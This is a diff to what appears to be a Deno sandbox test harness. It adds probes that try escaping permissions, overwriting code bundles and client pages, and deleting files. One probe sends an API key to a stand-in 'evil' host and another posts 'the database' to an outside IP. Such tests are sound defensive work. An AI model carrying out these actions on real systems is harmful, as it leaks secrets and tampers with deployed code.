@@ -250,6 +250,42 @@ const DOORS: Readonly<Record<string, Probe>> = {
   "door: remove at the model": () => call(`${at.model}/chat/completions`, { door: "model", method: "DELETE" }),
 };
 
+const code = (path: string) => new URL(`../../${path}`, import.meta.url);
+
+/** What came with the extractor that sleeps, with trackers, and with the tasks and pages of AI clients. */
+const PARTS: Readonly<Record<string, Probe>> = {
+  "extractor: start it by itself": () =>
+    new Deno.Command(Deno.execPath(), { args: ["run", "-A", code("extractor/main.ts").pathname] }).outputSync(),
+  "extractor: start it as a worker with more rights": () =>
+    new Worker(code("extractor/main.ts"), { type: "module", deno: { permissions: { read: true, net: true } } })
+      .terminate(),
+  "extractor: replace its code before it is started": () => Deno.writeTextFile(code("extractor/main.ts"), ""),
+  "extractor: move its socket away": () => Deno.renameSync(`${at.data}/run/extractor.sock`, `${at.data}/run/x.sock`),
+  "extractor: listen at another address": () =>
+    Deno.listen({ transport: "unix", path: `${at.data}/files/extractor.sock` }).close(),
+  "tracker: search texts for keys a thousand times": async () => {
+    for (let n = 0; n < 1000; n++) {
+      const answer = await sandbox.maskSecrets("w1", [`guess-${n}-of-it`]);
+      if (answer.kind !== "masked") return answer;
+    }
+    return "masked";
+  },
+  "tracker: an issue at a private host": () =>
+    withKey("https://10.0.0.1/api/v3/repos/a/b/issues", at.live, { method: "POST", body: "{}" }),
+  "tracker: an issue with the key at another host": () =>
+    withKey(`${at.evil}/repos/a/b/issues`, at.live, { method: "POST", body: `{"body":"${KEY}"}` }),
+  "client: its document with a key": () => withKey("https://1.1.1.1/client.json", at.live, { door: "client" }),
+  "client: its document by POST": () =>
+    call("https://1.1.1.1/client.json", { door: "client", method: "POST", body: "the database" }),
+  "client: its document from a host that is opened for actions": () => call(`${at.app}/c.json`, { door: "client" }),
+  "apps: replace the pages of AI clients": () => Deno.writeTextFile(code("build/assets/manifest.json"), "{}"),
+  "bundle: replace the code that the supervisor starts": () => Deno.writeTextFile(code("build/desk/desk.js"), ""),
+  "bundle: say that other code is current": () => Deno.writeTextFile(code("build/desk.json"), "{}"),
+  "bundle: remove it": () => Deno.removeSync(code("build/desk.json")),
+  "backup: hold its lock": () => Deno.openSync(`${at.data}/backups/lock`, { read: true, write: true, create: true }),
+  "backup: list what was left": () => Array.from(Deno.readDirSync(`${at.data}/backups`)),
+};
+
 const LEDGER: Readonly<Record<string, Probe>> = {
   "ledger: append a line": () => Deno.writeTextFileSync(`${ledger}/2026-11.jsonl`, "{}\n", { append: true }),
   "ledger: write a file beside it": () => Deno.writeTextFileSync(`${ledger}/2026-10.jsonl`, "{}\n"),
@@ -338,7 +374,7 @@ async function outcomeOf(probe: Probe): Promise<string> {
   }
 }
 
-const groups = [KEYS, IDENTITY, CUSTOMERS, DOORS, LEDGER, FREEZE, FILES, DATA_OUT, CHANGES];
+const groups = [KEYS, IDENTITY, CUSTOMERS, DOORS, PARTS, LEDGER, FREEZE, FILES, DATA_OUT, CHANGES];
 const outcomes: Record<string, string> = {};
 for (const [name, probe] of groups.flatMap((group) => Object.entries(group))) outcomes[name] = await outcomeOf(probe);
 console.log(JSON.stringify(outcomes));
